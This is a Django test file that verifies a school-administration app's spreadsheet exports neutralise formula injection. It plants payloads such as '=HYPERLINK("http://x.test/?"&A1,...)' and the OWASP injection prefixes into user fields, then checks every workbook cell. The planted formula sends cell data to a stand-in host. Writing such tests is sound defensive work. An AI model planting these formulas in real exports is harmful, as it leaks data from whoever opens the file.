"""No formula ever leaves DaoTao in a spreadsheet (issue 15).

Text that people type - a student's name, a unit's or a class's name, a survey comment, a
decision number - is planted in the demo as formulas (``=HYPERLINK(...)`` and the other
prefixes a spreadsheet runs: ``+ - @``, spaces then ``=``, a tab or a carriage return).
Then every .xlsx DaoTao hands out is downloaded through its real view (and the results
pack is mailed), and every cell of every sheet is read back: text is a string cell, kept as
typed; the only formulas are the totals that code writes (``SUM`` of a column).

Which exports there are is not left to this list: ``test_every_workbook_writer_is_downloaded``
finds every place in the code that starts a workbook (``daotao.lib.xlsx.Book``) and fails
when one of them was not reached by the downloads here, and ``test_only_the_writer_writes_workbooks``
fails when a module other than ``daotao/lib/xlsx.py`` writes a workbook with openpyxl.
"""

from __future__ import annotations

import ast
import html
import io
import re
import sys
import zipfile
from contextlib import contextmanager
from pathlib import Path
from unittest import mock

import openpyxl
from django.core import mail
from django.db.models import CharField, F, Value
from django.db.models.functions import Cast, Concat
from django.test import SimpleTestCase, override_settings
from django.urls import reverse

from daotao.academy import synthetic
from daotao.academy.importing import package_import
from daotao.academy.models import RegisteredSchool
from daotao.accounts import roles
from daotao.accounts.models import User
from daotao.admissions.models import Application, DocumentType, PositionCategory
from daotao.cohorts.models import Cohort
from daotao.demo import teaching_data as td
from daotao.essays.models import Essay
from daotao.grading.models import Credential, Discipline, GraduationDecision
from daotao.lib import signing, xlsx
from daotao.org.models import Lecturer, Unit, UnitKind
from daotao.people.models import Student
from daotao.planning.models import AnnualPlan
from daotao.programs.models import Assessment, Module, Program
from daotao.reports.models import ReportLine, ReportTemplate
from daotao.surveys.models import Answer, CareerEvent, Question, Section, SurveyRound
from daotao.testing import DemoTestCase, make_user
from daotao.twoway import services as twoway_services

PACKAGE = Path(__file__).resolve().parents[2]
MARK = "x.test"
# What a spreadsheet runs when a cell starts with it (OWASP's list, and spaces before "=").
PREFIXES = ("=", "+", "-", "@", "   =", "\t=", "\r=")
# The formulas code writes: the totals of the yearly report's quota table.
CODE_FORMULA = re.compile(r'SUM\([A-Z]+\d+:[A-Z]+\d+\)|IF\([A-Z]+\d+>0,[A-Z]+\d+/[A-Z]+\d+,""\)')
FORMULA_ELEMENT = re.compile(r"<f\b[^>]*?(?:/>|>(.*?)</f>)", re.S)
# The words planted in each kind of field, to see which fields reached a workbook.
TAGS = set(
    """STUDENT POSITION WORKPLACE APPNAME APPPOS APPWORK UNITNAME UCODE LECTURER PRGNAME PRGCODE RPTTITLE
    RPTLINE COHORTNAME COHORTCODE MODNAME MODCODE ASSESS DECISION CREDNO DISCNO CONDUCT PLANNO POSCAT DOCTYPE
    DOCNAME ROUND SECTION QUESTION COMMENT EVENT EVNO ESSAY SCHOOLNAME PROVINCE""".split()
)


def planted(tag: str, index: int) -> str:
    """A formula typed as text: ``=HYPERLINK("http://x.test/?"&A1,"TAG")`` and its kin."""
    return f'{PREFIXES[index % len(PREFIXES)]}HYPERLINK("http://{MARK}/?"&A1,"{tag}")'


def planted_code(tag: str, index: int) -> Concat:
    """A code (at most 32 characters, unique: ends with the row's key) that starts a formula.
    Upper case and without spaces, as codes are matched (report lines name programs so)."""
    prefix = PREFIXES[index % 4]
    return Concat(Value(f"{prefix}{MARK.upper()}-{tag}-"), Cast(F("pk"), CharField()))


class NoFormulaTests(DemoTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.office = User.objects.get(username="daotao")
        cls.cohort = Cohort.objects.get(code=td.TC_CODE)
        student = User.objects.get(username=td.STUDENT_USERNAME).student
        cls.locality = student.locality
        cls.coordinator = make_user("xlsx.dp", roles.LOCALITY_COORDINATOR, cls.locality)
        cls.module = Module.objects.filter(program=cls.cohort.program, lessons__cohort=cls.cohort).first()
        cls.survey_round = SurveyRound.objects.filter(cohort=cls.cohort, phase="end").first()
        cls.plan = AnnualPlan.objects.filter(quotas__isnull=False).order_by("-year").first()
        cls.graduation_year = (
            GraduationDecision.objects.filter(entries__enrollment__cohort=cls.cohort).first().date.year
        )
        cls._plant()

    @classmethod
    def _plant(cls):
        """Formulas where people type text: every free-text field that reaches an export
        (and a few that do not today, so that a new column showing them is tested too)."""
        index = iter(range(1000))

        def text(tag):
            return planted(tag, next(index))

        def code(tag):
            return planted_code(tag, next(index))

        Student.objects.update(full_name=text("STUDENT"), position=text("POSITION"), workplace=text("WORKPLACE"))
        Application.objects.update(full_name=text("APPNAME"), position=text("APPPOS"), workplace=text("APPWORK"))
        Unit.objects.update(name=text("UNITNAME"))
        Unit.objects.filter(kind__in=(UnitKind.DISTRICT, UnitKind.COMMUNE)).update(code=code("UCODE"))
        Lecturer.objects.update(full_name=text("LECTURER"))
        old_codes = dict(Program.objects.values_list("pk", "code"))
        Program.objects.update(name=text("PRGNAME"), code=code("PRGCODE"))
        new_codes = dict(Program.objects.values_list("pk", "code"))
        renamed = {old_codes[pk]: new_codes[pk] for pk in old_codes}
        for line in ReportLine.objects.exclude(program_codes=""):
            line.program_codes = ", ".join(renamed[c.strip()] for c in line.program_codes.split(","))
            line.save(update_fields=["program_codes"])
        ReportTemplate.objects.update(title=text("RPTTITLE"))
        ReportLine.objects.update(label=text("RPTLINE"))
        Cohort.objects.update(name=text("COHORTNAME"))
        Cohort.objects.filter(pk=cls.cohort.pk).update(code=code("COHORTCODE"))
        Module.objects.update(name=text("MODNAME"), code=code("MODCODE"))
        Assessment.objects.update(name=text("ASSESS"))
        GraduationDecision.objects.update(number=text("DECISION"))
        Credential.objects.update(register_number=code("CREDNO"))
        # A disciplinary measure of a student of the pack's locality.
        enrollment = cls.cohort.enrollments.on_roll()
        enrollment = enrollment.filter(student__locality=cls.locality).first()
        Discipline.objects.create(enrollment=enrollment, measure="reprimand", date=td.TC_CLOSING, reason="")
        Discipline.objects.update(reason=text("CONDUCT"), decision_number=text("DISCNO"))
        AnnualPlan.objects.update(decision_number=text("PLANNO"))
        PositionCategory.objects.update(code=code("POSCAT"))
        DocumentType.objects.update(code=code("DOCTYPE"), name=text("DOCNAME"))
        SurveyRound.objects.update(title=text("ROUND"))
        Section.objects.update(title=text("SECTION"))
        Question.objects.update(text=text("QUESTION"))
        Answer.objects.exclude(text="").update(text=text("COMMENT"))
        CareerEvent.objects.update(description=text("EVENT"), decision_number=text("EVNO"))
        Essay.objects.update(title=text("ESSAY"))

    def exports(self):
        """(name, user, address, tags the workbook must show) of every download."""
        cohort, module, office, coordinator = self.cohort.pk, self.module.pk, self.office, self.coordinator
        teaching = reverse("teaching:report") + "?start=01/01/2025&end=31/12/2026&format=xlsx"
        outcomes = reverse("surveys:outcome_report_xlsx") + f"?year={self.graduation_year}"
        annual = reverse("reports:annual_download", kwargs={"year": 2020, "fmt": "xlsx"})
        pack_tags = {"STUDENT", "UNITNAME", "COHORTCODE", "COHORTNAME", "PRGNAME", "MODCODE", "CONDUCT", "DISCNO"}
        pack_tags |= {"DECISION", "CREDNO"}
        return [
            ("cohorts:import_template", office, reverse("cohorts:import_template"), {"PRGCODE", "UCODE"}),
            (
                "admissions:import-template",
                office,
                reverse("admissions:import-template"),
                {"PRGCODE", "UCODE", "POSCAT", "DOCTYPE", "DOCNAME"},
            ),
            ("surveys:outcome_import_template", office, reverse("surveys:outcome_import_template"), set()),
            (
                "admissions:quota-xlsx",
                coordinator,
                reverse("admissions:quota-xlsx", args=[self.plan.year]),
                {"UNITNAME", "PRGNAME", "PLANNO"},
            ),
            ("reports:annual_download", office, annual, {"RPTTITLE", "RPTLINE", "UNITNAME", "PRGNAME"}),
            # A coordinator's copy names their unit in the scope line.
            ("reports:annual_download", coordinator, annual, {"RPTTITLE", "RPTLINE", "UNITNAME"}),
            ("teaching:report", office, teaching, {"LECTURER", "UNITNAME", "PRGCODE"}),
            (
                "workload:report",
                office,
                reverse("workload:report") + "?year=2026&format=xlsx",
                {"LECTURER", "UNITNAME"},
            ),
            (
                "finance:cohort_xlsx",
                office,
                reverse("finance:cohort_xlsx", args=[cohort]),
                {"COHORTCODE", "COHORTNAME", "LECTURER"},
            ),
            ("finance:year", office, reverse("finance:year") + "?year=2025&format=xlsx", {"COHORTCODE"}),
            (
                "grading:sheet_export",
                office,
                reverse("grading:sheet_export", args=[cohort, module]),
                {"STUDENT", "COHORTCODE", "MODCODE", "MODNAME", "ASSESS"},
            ),
            (
                "grading:report_xlsx",
                office,
                reverse("grading:report_xlsx", args=[cohort]),
                {"STUDENT", "COHORTCODE", "COHORTNAME", "DECISION"},
            ),
            ("twoway:pack_xlsx", office, reverse("twoway:pack_xlsx", args=[cohort, self.locality.pk]), pack_tags),
            (
                "surveys:results_round_xlsx",
                office,
                reverse("surveys:results_round_xlsx", args=[self.survey_round.pk]),
                {"ROUND", "COHORTCODE", "COHORTNAME", "SECTION", "QUESTION", "COMMENT"},
            ),
            ("surveys:outcome_report_xlsx", office, outcomes, {"PRGCODE", "PRGNAME"}),
            (
                "dashboards:board_xlsx",
                office,
                reverse("dashboards:board_xlsx", args=[self.graduation_year, "outcomes"]),
                {"PRGNAME"},
            ),
            ("onboarding:units-template", office, reverse("onboarding:units-template"), set()),
            ("onboarding:people-template", office, reverse("onboarding:people-template"), set()),
            ("onboarding:history-template", office, reverse("onboarding:history-template"), set()),
            ("grading:blank_forms_xlsx", office, reverse("grading:blank_forms_xlsx"), {"PRGNAME"}),
            (
                "planning:quota_xlsx",
                office,
                reverse("planning:quota_xlsx", args=[self.plan.year]),
                {"UNITNAME", "PRGNAME", "PLANNO"},
            ),
            (
                "records:student_xlsx",
                office,
                reverse("records:student_xlsx", args=[User.objects.get(username=td.STUDENT_USERNAME).student.pk]),
                {"STUDENT", "POSITION", "WORKPLACE", "UNITNAME", "COHORTCODE", "COHORTNAME", "PRGNAME"}
                | {"ESSAY", "ROUND"},
            ),
        ]

    def assert_no_formula(self, name: str, content: bytes) -> tuple[set[str], int]:
        """Every cell of every sheet: text is a string cell as typed, the only formulas are
        code's totals. Returns the planted tags seen and the number of planted cells."""
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for part in archive.namelist():
                if not part.startswith("xl/worksheets/"):
                    continue
                xml = archive.read(part).decode()
                self.assertNotIn('t="e"', xml, f"{name} {part}: an error cell")
                for match in FORMULA_ELEMENT.finditer(xml):
                    formula = html.unescape(match.group(1) or "")
                    self.assertRegex(formula, f"^(?:{CODE_FORMULA.pattern})$", f"{name} {part}: a formula")
        book = openpyxl.load_workbook(io.BytesIO(content))
        tags, planted_cells = set(), 0
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    where = f"{name} {sheet.title}!{cell.coordinate}: {cell.value!r}"
                    if cell.data_type == "f":
                        self.assertRegex(cell.value, f"^=(?:{CODE_FORMULA.pattern})$", where)
                        continue
                    if not isinstance(cell.value, str):
                        continue
                    self.assertEqual(cell.data_type, "s", where)
                    if MARK not in cell.value.lower():
                        continue
                    planted_cells += 1
                    tags |= {tag for tag in TAGS if tag in cell.value.upper()}
                    if xlsx.formula_like(cell.value):
                        # Marked as typed with an apostrophe: editing the cell keeps it text.
                        self.assertTrue(cell.quotePrefix, where)
        return tags, planted_cells

    def test_every_export_holds_what_was_typed_as_text(self):
        for name, user, address, expected in self.exports():
            with self.subTest(export=name, user=user.username):
                self.client.force_login(user)
                response = self.client.get(address)
                self.assertEqual(response.status_code, 200)
                self.assertEqual(response["Content-Type"], xlsx.CONTENT_TYPE)
                tags, planted_cells = self.assert_no_formula(name, response.content)
                self.assertLessEqual(expected, tags, f"{name}: planted text missing from the workbook")
                if expected:
                    self.assertGreater(planted_cells, 0)

    def test_the_national_dashboard_holds_what_schools_typed_as_text(self):
        """At the Academy: the names a school registered under, typed as formulas, in every
        table of the national dashboard."""
        document = national_package(self.office)
        with override_settings(DAOTAO_ROLE="academy"):
            self.client.force_login(self.office)
            for section in ("schools", "quota", "trend"):
                with self.subTest(section=section):
                    response = self.client.get(reverse("academy:national_xlsx", args=["2020", section]))
                    self.assertEqual(response["Content-Type"], xlsx.CONTENT_TYPE)
                    tags, _cells = self.assert_no_formula(f"academy {section}", response.content)
                    if section != "trend":
                        self.assertLessEqual({"SCHOOLNAME", "PROVINCE"}, tags)
        self.assertTrue(document)

    def test_the_mailed_results_pack_holds_text(self):
        twoway_services.pack_send(cohort=self.cohort, unit=self.locality, user=self.office, email="dv@example.org")
        (message,) = mail.outbox
        workbooks = [content for _name, content, kind in message.attachments if kind == xlsx.CONTENT_TYPE]
        self.assertEqual(len(workbooks), 1)
        tags, _cells = self.assert_no_formula("mailed pack", workbooks[0])
        self.assertLessEqual({"STUDENT", "UNITNAME", "CONDUCT", "DECISION", "MODCODE"}, tags)

    def test_every_workbook_writer_is_downloaded(self):
        """Every function that starts a workbook was reached by a download above: a new
        export fails here until its address is listed in ``exports``."""
        with writers_reached() as reached:
            for _name, user, address, _tags in self.exports():
                self.client.force_login(user)
                self.client.get(address)
            twoway_services.pack_send(cohort=self.cohort, unit=self.locality, user=self.office, email="dv@example.org")
        writers = workbook_writers()
        self.assertGreaterEqual(len(writers), 9)
        self.assertEqual(writers - reached, set(), "workbook writers that no export here reaches")


def national_package(user) -> dict:
    """A school registered at the Academy under names typed as formulas, and its 2020 package
    imported (the national dashboard's workbooks read them)."""
    key = signing.new_private_key()
    school = RegisteredSchool.objects.create(
        code="XF",
        name=planted("SCHOOLNAME", 1),
        province=planted("PROVINCE", 2),
        public_key=signing.public_key_text(key),
    )
    quota = [synthetic.quota_year(2020, [("H01", "Thành phố Bình An", "TC-LLCT-HC", "supported", 50, 40)])]
    classes = [synthetic.Klass("TC-LLCT-HC", "H01", 40), synthetic.Klass("BD-CV", "H02", 30, funding="self_funded")]
    document = synthetic.package(
        key, name=school.name, province=school.province, **synthetic.year(2020), classes=classes, quota=quota
    )
    package_import(synthetic.file_bytes(document), user=user)
    return document


class StaticTests(SimpleTestCase):
    def test_only_the_writer_writes_workbooks(self):
        """openpyxl is used elsewhere only to read (``load_workbook``, ``openpyxl.utils``)."""
        self.assertEqual(openpyxl_writers(), [])

    def test_the_content_type_has_one_home(self):
        homes = [
            str(path.relative_to(PACKAGE))
            for path in _modules()
            if "spreadsheetml.sheet" in path.read_text(encoding="utf-8")
        ]
        self.assertEqual(homes, ["lib/xlsx.py"])


def _modules():
    """DaoTao's own modules, without its tests."""
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE)
        if "tests" in relative.parts or "migrations" in relative.parts or relative.name == "testing.py":
            continue
        yield path


def _module_name(path: Path) -> str:
    return ".".join(("daotao", *path.relative_to(PACKAGE).with_suffix("").parts))


@contextmanager
def writers_reached():
    """The set of ``module.function`` that started a workbook (``xlsx.Book(...)``) inside
    the block: the downloads the block makes reach these writers."""
    reached = set()
    book_init = xlsx.Book.__init__

    def spy(book, *args, **kwargs):
        caller = sys._getframe(1)
        reached.add(f"{caller.f_globals['__name__']}.{caller.f_code.co_name}")
        book_init(book, *args, **kwargs)

    with mock.patch.object(xlsx.Book, "__init__", spy):
        yield reached


def workbook_writers() -> set[str]:
    """``module.function`` of every call that starts a workbook (``xlsx.Book(...)``)."""
    writers = set()
    for path in _modules():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for function in ast.walk(tree):
            if not isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            for node in ast.walk(function):
                if isinstance(node, ast.Call) and _is_book(node.func):
                    writers.add(f"{_module_name(path)}.{function.name}")
    return writers


def _is_book(func) -> bool:
    return (isinstance(func, ast.Attribute) and func.attr == "Book") or (
        isinstance(func, ast.Name) and func.id == "Book"
    )


# What writing a workbook takes from openpyxl; reading takes ``load_workbook``, ``openpyxl.utils``
# and the number formats' helpers (``openpyxl.styles.numbers``).
WRITING_NAMES = {"Workbook", "Font", "Fill", "PatternFill", "GradientFill", "Alignment", "Border", "Side"}
WRITING_NAMES |= {"NamedStyle", "Protection", "Color", "Formula", "ArrayFormula", "DataTableFormula"}
WRITING_MODULES = {"writer", "worksheet", "chart", "drawing", "workbook"}


def openpyxl_writers() -> list[str]:
    """Uses of openpyxl outside ``lib/xlsx.py`` that write a workbook."""
    found = []
    for path in _modules():
        relative = str(path.relative_to(PACKAGE))
        if relative == "lib/xlsx.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl":
                submodule = node.module.partition(".")[2].split(".")[0]
                names = {alias.name for alias in node.names}
                if submodule in WRITING_MODULES or names & (WRITING_NAMES | WRITING_MODULES | {"*", "styles"}):
                    found.append(f"{relative}:{node.lineno} from {node.module} import {', '.join(sorted(names))}")
            elif isinstance(node, ast.Import):
                for alias in node.names:
                    parts = alias.name.split(".")
                    if parts[0] == "openpyxl" and len(parts) > 1 and parts[1] in WRITING_MODULES | {"styles"}:
                        found.append(f"{relative}:{node.lineno} import {alias.name}")
            elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "openpyxl":
                if node.attr in WRITING_NAMES | WRITING_MODULES | {"styles"}:
                    found.append(f"{relative}:{node.lineno} openpyxl.{node.attr}")
    return found
